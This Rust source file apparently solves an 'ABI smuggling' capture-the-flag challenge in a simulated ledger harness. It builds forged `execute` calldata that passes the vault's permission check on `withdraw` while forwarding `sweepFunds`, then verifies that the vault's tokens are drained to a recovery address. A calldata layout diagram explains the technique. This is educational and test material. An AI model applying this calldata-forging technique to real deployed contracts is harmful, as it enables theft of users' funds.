//! ABI smuggling: sweep a self-authorized vault through a forged `execute`.
//!
//! The vault checks the permission selector at calldata byte 100 but
//! forwards whatever its `actionData` offset word points at. The player is
//! only permitted `withdraw`, so the forged calldata keeps that selector at
//! byte 100 and moves `actionData` one word further out, where it carries
//! `sweepFunds(recovery, token)`.
//!
//! ```text
//! 0x000  execute selector
//! 0x004  target      = vault
//! 0x024  offset      = 0x80          → actionData starts at 0x084
//! 0x044  0x00…00     (never read)
//! 0x064  withdraw selector           ← permission check reads here
//! 0x084  length      = 0x44
//! 0x0a4  sweepFunds(recovery, token), zero-padded
//! ```

use std::sync::Arc;

use alloy_primitives::{Address, U256};
use gauntlet_ledger::abi::{decode_bool, decode_bytes32, decode_uint, RawCalldata, WORD};
use gauntlet_ledger::primitives::{ether, one_ether};
use gauntlet_ledger::vm::Ledger;
use gauntlet_targets::dvt::DamnValuableToken;
use gauntlet_targets::erc20;
use gauntlet_targets::vault::{self, SelfAuthorizedVault};
use tracing::debug;

use crate::actors::{DEPLOYER, SIGNER_1, SIGNER_2};
use crate::contract::{
    check_eq, expect_unauthorized, setup_eq, PhaseExt, Scenario, ScenarioError, TrackedBalance,
};

pub const ID: &str = "abi_smuggling";

const PLAYER: Address = SIGNER_1;
const RECOVERY: Address = SIGNER_2;

/// 1 000 000 DVT.
fn vault_token_balance() -> U256 {
    ether(1_000_000)
}

#[derive(Debug, Clone, Copy)]
pub struct AbiSmuggling;

#[derive(Debug, Clone, Copy)]
pub struct Fixture {
    pub token: Address,
    pub vault: Address,
}

/// Calldata for `vault.execute(vault, …)` whose permission check sees
/// `withdraw` while the forwarded call is `sweepFunds(recovery, token)`.
#[must_use]
pub fn smuggled_calldata(vault: Address, recovery: Address, token: Address) -> Vec<u8> {
    let sweep = vault::calls::sweep_funds(recovery, token);
    let action_data_offset = U256::from(4 * WORD);
    RawCalldata::new(vault::EXECUTE)
        .address_word(vault)
        .uint_word(action_data_offset)
        .uint_word(U256::ZERO)
        .selector_word(vault::WITHDRAW)
        .uint_word(U256::from(sweep.len()))
        .padded_bytes(&sweep)
        .finish()
}

/// Both protected entry points must reject direct callers.
fn assert_direct_calls_rejected(vm: &mut Ledger, fixture: &Fixture) -> Result<(), ScenarioError> {
    let sweep = vault::calls::sweep_funds(DEPLOYER, fixture.token);
    expect_unauthorized(
        vm.send(DEPLOYER, fixture.vault, U256::ZERO, &sweep),
        "sweepFunds",
        "CallerNotAllowed",
    )?;
    let withdraw = vault::calls::withdraw(fixture.token, PLAYER, one_ether());
    expect_unauthorized(
        vm.send(PLAYER, fixture.vault, U256::ZERO, &withdraw),
        "withdraw",
        "CallerNotAllowed",
    )
}

impl Scenario for AbiSmuggling {
    type Fixture = Fixture;

    fn id(&self) -> &'static str {
        ID
    }

    fn player_transaction_budget(&self) -> Option<u64> {
        Some(1)
    }

    fn setup(&self, vm: &mut Ledger) -> Result<Fixture, ScenarioError> {
        let token = vm
            .deploy(DEPLOYER, Arc::new(DamnValuableToken), U256::ZERO)
            .in_setup("deploy token")?;
        let vault = vm
            .deploy(DEPLOYER, Arc::new(SelfAuthorizedVault), U256::ZERO)
            .in_setup("deploy vault")?;
        let fixture = Fixture { token, vault };

        let last = decode_uint(
            &vm.view(vault, &vault::calls::get_last_withdrawal_timestamp())
                .in_setup("read last withdrawal")?,
        )
        .in_setup("decode last withdrawal")?;
        if last.is_zero() {
            return Err(ScenarioError::setup("last withdrawal timestamp is zero"));
        }

        let mut ids = Vec::new();
        for (selector, executor) in [(vault::SWEEP_FUNDS, DEPLOYER), (vault::WITHDRAW, PLAYER)] {
            let out = vm
                .view(vault, &vault::calls::get_action_id(selector, executor, vault))
                .in_setup("getActionId")?;
            ids.push(decode_bytes32(&out).in_setup("decode action id")?);
        }
        vm.send(DEPLOYER, vault, U256::ZERO, &vault::calls::set_permissions(&ids))
            .in_setup("setPermissions")?;
        for id in &ids {
            let out = vm
                .view(vault, &vault::calls::permissions(*id))
                .in_setup("permissions")?;
            setup_eq("permission granted", true, decode_bool(&out).in_setup("decode permission")?)?;
        }
        let out = vm
            .view(vault, &vault::calls::initialized())
            .in_setup("initialized")?;
        setup_eq("vault initialized", true, decode_bool(&out).in_setup("decode initialized")?)?;

        vm.send(
            DEPLOYER,
            token,
            U256::ZERO,
            &erc20::calls::transfer(vault, vault_token_balance()),
        )
        .in_setup("fund vault")?;
        setup_eq(
            "vault token balance",
            vault_token_balance(),
            erc20::balance_of(vm, token, vault).in_setup("read vault balance")?,
        )?;
        setup_eq(
            "player token balance",
            U256::ZERO,
            erc20::balance_of(vm, token, PLAYER).in_setup("read player balance")?,
        )?;

        assert_direct_calls_rejected(vm, &fixture)?;
        Ok(fixture)
    }

    fn execute(&self, vm: &mut Ledger, fixture: &mut Fixture) -> Result<(), ScenarioError> {
        let calldata = smuggled_calldata(fixture.vault, RECOVERY, fixture.token);
        debug!(calldata = %hex::encode(&calldata), "forged execute calldata");
        vm.send(PLAYER, fixture.vault, U256::ZERO, &calldata)
            .attack_step("forged execute")?;
        Ok(())
    }

    fn verify(&self, vm: &Ledger, fixture: &Fixture) -> Result<(), ScenarioError> {
        let balance = |holder| {
            erc20::balance_of(vm, fixture.token, holder).in_check("token balance readable")
        };
        check_eq("vault token balance", U256::ZERO, balance(fixture.vault)?)?;
        check_eq("player token balance", U256::ZERO, balance(PLAYER)?)?;
        check_eq("recovery token balance", vault_token_balance(), balance(RECOVERY)?)?;

        // Probe on a copy so the final state stays what the attack left.
        let mut scratch = vm.clone();
        assert_direct_calls_rejected(&mut scratch, fixture)
    }

    fn tracked_balances(&self, fixture: &Fixture) -> Vec<TrackedBalance> {
        vec![
            TrackedBalance::token("vault_dvt", fixture.token, fixture.vault),
            TrackedBalance::token("player_dvt", fixture.token, PLAYER),
            TrackedBalance::token("recovery_dvt", fixture.token, RECOVERY),
        ]
    }
}
